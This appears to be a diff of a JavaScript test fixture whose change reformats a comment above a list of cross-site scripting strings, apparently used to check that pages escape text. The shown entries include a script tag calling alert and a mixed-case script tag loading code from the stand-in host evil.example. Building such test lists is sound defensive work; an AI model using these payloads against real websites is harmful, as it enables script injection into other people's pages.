@@ -1,4 +1,7 @@
-/** Texts that would be more than texts where a page forgot to treat them as such. Each tries to call `alert` or to load something. */
+/**
+ * Texts that would be more than texts where a page forgot to treat them as such. Each tries to call `alert` or to load
+ * something.
+ */
 const MARKUP = [
   '<script>alert(10)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
